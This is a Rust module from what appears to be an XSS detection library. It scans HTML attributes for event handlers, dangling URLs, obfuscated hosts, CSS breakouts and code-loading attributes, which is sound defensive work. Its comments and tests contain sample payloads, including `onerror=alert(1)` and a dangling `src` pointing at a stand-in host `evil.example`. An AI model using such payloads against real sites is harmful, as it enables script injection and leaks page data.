//! Attributes of a tag: event handlers (`<img onerror=…>`), URL
//! attributes left open to swallow the page (dangling markup, `<img
//! src="//evil?…`), disguised link hosts, `style` that escapes its
//! declaration, and attributes that load code or bind data (`xmlns:v`,
//! `ev:handler`, `xsi:schemaLocation`, `dataformatas`, `formaction`).
//! Adds `xss-event-handler`, `xss-context-break`, `xss-obfuscated-url`,
//! `xss-css`, `xss-dangerous-tag` and `xss-suspect-tag`.

use super::css::css_breaks_out;
use super::links::obfuscated_url;
use super::{add, is_letter};
use crate::rules::{self, Rule};

/// Attributes after the tag name ending at `name_end`, until `>`, `<` or
/// 4 KiB past the name's `start`: every `<` starts a scan, so an unbounded
/// one would make `<a style="x<a style="x…` quadratic.
pub(super) fn scan_attributes(
    text: &[u8],
    start: usize,
    name_end: usize,
    out: &mut Vec<&'static Rule>,
) {
    let limit = text.len().min(start.saturating_add(4096));
    let mut at = name_end;
    while at < limit && text[at] != b'>' && text[at] != b'<' {
        let b = text[at];
        if b <= b' ' || b == b'/' || b == b'"' || b == b'\'' {
            at += 1;
            continue;
        }
        let name_start = at;
        while at < limit && !matches!(text[at], 0..=b' ' | b'/' | b'>' | b'=' | b'<') {
            at += 1;
        }
        let attr = &text[name_start..at];
        if is_event_attribute(text, attr, at, limit) {
            add(out, &rules::XSS_EVENT);
        }
        if text.get(at) == Some(&b'=') {
            let value_start = at + 1;
            at = value_end(text, attr, at + 1, limit, out);
            let value = text.get(value_start..at.min(limit)).unwrap_or_default();
            attr_value(attr, value, out);
        }
    }
}

/// `onerror=`, `onerror/=alert(0)`: an `on…` attribute (ending at
/// `name_end`) given a value.
fn is_event_attribute(text: &[u8], attr: &[u8], name_end: usize, limit: usize) -> bool {
    if !(attr.len() > 2 && attr.starts_with(b"on") && attr[2..].iter().all(|&c| is_letter(c))) {
        return false;
    }
    let mut at = name_end;
    while at < limit && (text[at] <= b' ' || text[at] == b'/') {
        at += 1;
    }
    text.get(at) == Some(&b'=')
}

/// Index after the value that starts after `=` at `from` (quoted or not).
fn value_end(
    text: &[u8],
    attr: &[u8],
    from: usize,
    limit: usize,
    out: &mut Vec<&'static Rule>,
) -> usize {
    let mut at = from;
    while at < limit && text[at] <= b' ' {
        at += 1;
    }
    match text.get(at) {
        Some(&quote @ (b'"' | b'\'' | b'`')) => {
            at += 1;
            let body = at;
            while at < limit && text[at] != quote {
                at += 1;
            }
            // `<img src="//evil?…`: a URL attribute left open to the end of
            // the value swallows the page up to the next quote and sends it
            // away (dangling markup).
            if at == text.len() && URL_ATTRS.contains(&attr) {
                let value = &text[body..];
                if value.starts_with(b"//") || value.starts_with(b"http") {
                    add(out, &rules::XSS_CONTEXT_BREAK);
                }
            }
            at + 1
        }
        _ => {
            while at < limit && !matches!(text[at], 0..=b' ' | b'>') {
                at += 1;
            }
            at
        }
    }
}

/// Attributes whose value is a URL the browser fetches or submits to.
const URL_ATTRS: &[&[u8]] = &[
    b"src",
    b"href",
    b"action",
    b"formaction",
    b"background",
    b"poster",
    b"data",
    b"ping",
    b"cite",
];

/// Attributes that load code or markup by their value: XML namespaces of
/// VML/XSLT, external schemas, IE data binding as HTML.
fn attr_value(attr: &[u8], value: &[u8], out: &mut Vec<&'static Rule>) {
    if URL_ATTRS.contains(&attr) && obfuscated_url(value) {
        add(out, &rules::XSS_URL_OBFUSCATED);
    }
    if attr == b"xmlns" || attr.starts_with(b"xmlns:") {
        let active = [&b"vml"[..], b"xsl", b"urn:schemas-microsoft"]
            .iter()
            .any(|p| crate::normalize::find(value, p).is_some());
        add(
            out,
            if active {
                &rules::XSS_TAG
            } else {
                &rules::XSS_SUSPECT_TAG
            },
        );
    } else if attr == b"style" && css_breaks_out(value) {
        add(out, &rules::XSS_CSS);
    } else if attr.starts_with(b"ev:") {
        // XML Events (`ev:event="load" ev:handler=…`).
        add(out, &rules::XSS_TAG);
    } else if attr.ends_with(b":schemalocation") || attr == b"dataformatas" {
        add(out, &rules::XSS_TAG);
    } else if attr == b"formaction" {
        // Re-targets the form's submission (and runs `javascript:` URLs).
        add(out, &rules::XSS_EVENT);
    } else if attr == b"datasrc" {
        add(out, &rules::XSS_SUSPECT_TAG);
    }
}

#[cfg(test)]
mod tests {
    use crate::xss::tests::{assert_fires, assert_quiet};

    #[test]
    fn handlers_and_dangling_urls_in_a_tag() {
        assert_fires("<img src=x onerror=alert(1)>", "xss-event-handler");
        assert_fires("<img src=\"//evil.example/?", "xss-context-break");
    }

    #[test]
    fn an_ordinary_link() {
        let value = "<a href=\"https://example.com/docs\" title=\"Docs\">docs</a>";
        assert_quiet(value, "xss-event-handler");
        assert_quiet(value, "xss-context-break");
    }
}
